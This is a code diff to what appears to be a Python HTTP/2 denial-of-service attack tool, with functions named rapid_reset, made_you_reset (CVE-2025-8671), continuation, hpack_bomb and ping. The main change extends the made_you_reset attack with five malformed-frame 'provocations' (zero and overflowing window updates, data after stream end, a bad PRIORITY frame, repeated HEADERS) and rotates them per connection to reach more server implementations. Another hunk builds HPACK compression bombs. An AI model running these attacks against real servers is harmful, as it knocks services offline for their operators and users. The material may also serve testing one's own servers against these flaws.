@@ -104,9 +104,19 @@ def rapid_reset(a: Attack) -> None:
 
 
 def made_you_reset(a: Attack) -> None:
-    """CVE-2025-8671: complete requests followed by what the server itself must reset the stream for."""
+    """CVE-2025-8671: complete requests followed by what the server itself must reset the stream for; another such
+    thing on each connection, because servers differ in which of them ends the connection at once."""
     body = a.request.body
-    a.per_stream(lambda s: a.headers(s) + wire.frame(wire.DATA, wire.END_STREAM, s, body) + wire.window_update(s, 0), 3)
+    overflow = (1 << 31) - 1
+    provocations = (
+        lambda s: wire.window_update(s, 0),
+        lambda s: wire.window_update(s, overflow) + wire.window_update(s, overflow),
+        lambda s: wire.frame(wire.DATA, wire.END_STREAM, s, b"more"),
+        lambda s: wire.frame(wire.PRIORITY, 0, s, b"\0\0\0\0"),
+        lambda s: wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, s, a.block),
+    )
+    provoke = provocations[a.connections % len(provocations)]
+    a.per_stream(lambda s: a.headers(s) + wire.frame(wire.DATA, wire.END_STREAM, s, body) + provoke(s), 3)
 
 
 def continuation(a: Attack) -> None:
@@ -122,7 +132,8 @@ def hpack_bomb(a: Attack) -> None:
     bomb = a.block + b"\xbe" * 12000
     padded = a.block + b"\0\1x\x7f" + b"\x80" * 8000 + b"\0"
     first = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, a.block + entry)
-    a.per_stream(lambda s: wire.frame(wire.HEADERS, wire.END_HEADERS, s + 2, padded if s % 64 == 63 else bomb), 1, first)
+    a.per_stream(lambda s: wire.frame(wire.HEADERS, wire.END_HEADERS, s + 2, padded if s % 64 == 63 else bomb), 1,
+                 first)
 
 
 def ping(a: Attack) -> None:
